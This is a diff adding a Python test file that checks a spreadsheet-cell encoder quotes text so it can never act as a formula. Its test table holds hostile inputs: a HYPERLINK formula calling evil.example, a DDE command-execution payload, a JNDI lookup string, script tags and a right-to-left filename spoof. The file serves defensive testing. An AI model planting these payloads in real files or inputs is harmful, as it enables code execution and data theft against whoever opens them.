@@ -1,0 +1,60 @@
+"""Text for spreadsheets: nothing in it is a formula (docs/security.md, 22)."""
+
+import csv
+import io
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kisslock.spreadsheet import CONTROL, FORMULA, cell, line
+
+HOSTILE = {
+    '=HYPERLINK("https://evil.example","x")': """"'=HYPERLINK(""https://evil.example"",""x"")\"""",
+    "+1+cmd|'/C calc'!A0": "\"'+1+cmd|'/C calc'!A0\"",
+    "-2+3": "\"'-2+3\"",
+    "@SUM(1)": "\"'@SUM(1)\"",
+    "\t=1": "\"'\t=1\"",
+    "\r=1": "\"'\r=1\"",
+    "\n=1": "\"'\n=1\"",
+    "\uff1d1": "\"'\uff1d1\"",
+    "a;=1": '"a;=1"',
+    "<script>alert(1)</script>": '"<script>alert(1)</script>"',
+    "${jndi:ldap://evil}": '"${jndi:ldap://evil}"',
+    "\x1b[31mred\x1b[0m": '"\\x1b[31mred\\x1b[0m"',
+    "a\x00b\x9b": '"a\\x00b\\x9b"',
+    "\u202egnp.exe": '"\\u202egnp.exe"',
+    'say "no"': '"say ""no"""',
+    "": '""',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "written"), HOSTILE.items())
+def test_text_is_quoted_and_never_a_formula(text: str, written: str) -> None:
+    assert cell(text) == written
+
+
+def test_a_number_stays_a_number_and_nothing_is_empty() -> None:
+    assert line(["a", 12, -3, None, 0]) == '"a",12,-3,,0\r\n'
+
+
+TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
+CELLS = st.lists(st.one_of(TEXTS, st.integers(0, 2**63), st.none()), min_size=2)
+
+
+@given(CELLS)
+def test_every_reader_of_rfc_4180_gets_the_same_cells_back(cells: list[str | int | None]) -> None:
+    (record,) = csv.reader(io.StringIO(line(cells), newline=""), strict=True)
+    for read, original in zip(record, cells, strict=True):
+        if isinstance(original, str):
+            plain = CONTROL.sub(lambda match: f"\\{escape(match[0])}", original)
+            assert read == (f"'{plain}" if plain.startswith(FORMULA) else plain)
+            assert not read.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", read)
+        else:
+            assert read == ("" if original is None else str(original))
+
+
+def escape(character: str) -> str:
+    return f"x{ord(character):02x}" if ord(character) < 256 else f"u{ord(character):04x}"
